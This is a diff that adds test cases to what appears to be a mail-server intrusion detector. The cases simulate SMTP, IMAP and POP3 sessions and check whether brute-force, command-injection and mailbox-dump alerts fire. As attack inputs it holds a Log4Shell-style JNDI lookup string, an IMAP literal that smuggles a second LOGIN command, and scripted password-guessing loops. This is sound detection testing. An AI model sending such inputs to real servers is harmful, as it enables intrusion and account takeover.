@@ -408,6 +408,48 @@ def nine_from_three(c):
         quit(login(d, "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))
 
 
+@fires("brute-force", "warning", says="the same password each time")
+def phone_with_an_old_password(c):
+    for n in range(12):
+        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 60.0)), "info", "535 5.7.8 Error: authentication failed", "old"))
+
+
+@fires("brute-force", "warning", says="then another one that was right")
+def owner_corrects_it(c):
+    phone_with_an_old_password(c)
+    enters(c, "192.0.2.10", 1000)
+
+
+@fires("brute-force", "critical", says="12 different passwords in 13200 s")
+def slow_on_purpose(c):
+    for n in range(12):
+        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 1200.0)), "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))
+
+
+@silent("brute-force")
+def mistypes_now_and_then(c):
+    """Twelve different ones in all, and in between the right one."""
+    for n in range(12):
+        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 1200.0)), "info", "535 5.7.8 Error: authentication failed", "slip%d" % n))
+        if n % 3 == 2:
+            enters(c, "192.0.2.10", n * 1200.0 + 60)
+
+
+@silent("brute-force")
+def two_old_passwords_all_day(c):
+    for n in range(40):
+        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 1200.0)), "info", "535 5.7.8 Error: authentication failed", "old%d" % (n % 2)))
+
+
+@fires("brute-force", "critical")
+def refused_with_bad(c):
+    """A server that says BAD of a wrong password."""
+    d = imap(D(c, port=143, client=STRANGER))
+    for n in range(12):
+        d.talk("C: a%d LOGIN bob pw%d" % (n, n), "S: a%d BAD Invalid user or password" % n)
+    imap_quit(d)
+
+
 # ---- open-relay, open-relay-probe ------------------------------------------------------------------------------------
 
 
@@ -612,6 +654,12 @@ def line_end_inside(c):
 @fires("command-injection", "critical", says="jndi")
 def log4j_user(c):
     pop3_quit(pop3(D(c, port=110)).talk("C: USER ${jndi:ldap://203.0.113.66/a}", "S: +OK", "C: PASS x", "S: -ERR no"))
+
+
+@fires("command-injection", "error", says="another command behind it")
+def login_in_a_literal(c):
+    d = imap(D(c, port=143)).say("C", b"a LOGIN {26+}\r\nbob\r\nb LOGIN ann hidden\r\n\r\n pw\r\n").say("S", "a NO [AUTHENTICATIONFAILED] No")
+    imap_quit(d)
 
 
 @fires("command-injection", "error", says="percent")
@@ -943,10 +991,10 @@ def in_five_places_over_hours(c):
     logins(c, ["192.0.2.1", "198.18.0.1", "203.0.113.1", "198.51.99.1", "192.31.196.1"], gap=1000.0)
 
 
-def guess_and_fetch(c, guesses, messages, owner=False):
+def guess_and_fetch(c, guesses, messages, owner=False, password=lambda n: "p%d" % n):
     for n in range(guesses):
         d = pop3(Dialogue(c, client=STRANGER, port=110, client_port=41000 + n, at=5.0 * n))
-        pop3_quit(d.talk("C: USER info", "S: +OK", "C: PASS p%d" % n, "S: -ERR [AUTH] Authentication failed."))
+        pop3_quit(d.talk("C: USER info", "S: +OK", "C: PASS " + password(n), "S: -ERR [AUTH] Authentication failed."))
     d = pop3(Dialogue(c, client="192.0.2.10" if owner else STRANGER, port=110, client_port=43000, at=5.0 * guesses))
     d.talk("C: USER info", "S: +OK", "C: PASS right", "S: +OK")
     for n in range(messages):
@@ -957,6 +1005,11 @@ def guess_and_fetch(c, guesses, messages, owner=False):
 @fires("mailbox-dump", "critical", says="after 12 failed logins")
 def guessed_and_emptied(c):
     guess_and_fetch(c, 12, 25)
+
+
+@silent("mailbox-dump")
+def old_password_then_fetched(c):
+    guess_and_fetch(c, 12, 25, password=lambda n: "old")
 
 
 @silent("mailbox-dump")
